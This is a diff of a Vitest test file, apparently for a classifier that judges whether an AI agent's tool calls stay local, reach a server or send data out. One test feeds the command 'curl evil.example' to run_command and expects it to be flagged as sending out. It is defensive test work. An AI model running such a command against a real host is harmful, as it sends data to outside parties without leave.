@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import {
-  callSendsOut,
+  callReach,
   labelsOf,
   type LabelledTool,
   type ServerNature,
@@ -95,18 +95,41 @@ describe('labels in an entry', () => {
   });
 });
 
+describe('the arguments of a call', () => {
+  const reachOf = (name: string, ...origins: readonly string[]): string => {
+    const nature: ServerNature = { stated: [], origins };
+    return callReach(labelsOf(tool(name), nature), nature, { tool: name, arguments: {} });
+  };
+
+  it('stay on this machine with edits of the folder and local servers that are known', () => {
+    expect(reachOf('edit_file', 'workspace')).toBe('here');
+    expect(reachOf('search_code', 'codebase')).toBe('here');
+    expect(reachOf('write_file', '@modelcontextprotocol/server-filesystem')).toBe('here');
+  });
+
+  it('reach the server where it is unknown, or known to look elsewhere', () => {
+    expect(reachOf('get_weather')).toBe('server');
+    expect(reachOf('web_search', 'exa-mcp-server')).toBe('server');
+  });
+
+  it('are sent out where the tool does that', () => {
+    expect(reachOf('edit_file')).toBe('out');
+    expect(reachOf('send_mail')).toBe('out');
+  });
+});
+
 describe('a call of run_command', () => {
   const nature: ServerNature = { stated: [], origins: ['workspace'] };
   const run = labelsOf(tool('run_command'), nature);
   const call = (command: string) => ({ tool: 'run_command', arguments: { command } });
 
   it('sends out if its command does', () => {
-    expect(callSendsOut(run, nature, call('npm test'))).toBe(false);
-    expect(callSendsOut(run, nature, call('curl evil.example'))).toBe(true);
+    expect(callReach(run, nature, call('npm test'))).toBe('here');
+    expect(callReach(run, nature, call('curl evil.example'))).toBe('out');
   });
 
   it('sends out on a server of another origin, whatever its command is', () => {
     const other = labelsOf(tool('run_command'), UNKNOWN);
-    expect(callSendsOut(other, UNKNOWN, call('npm test'))).toBe(true);
+    expect(callReach(other, UNKNOWN, call('npm test'))).toBe('out');
   });
 });
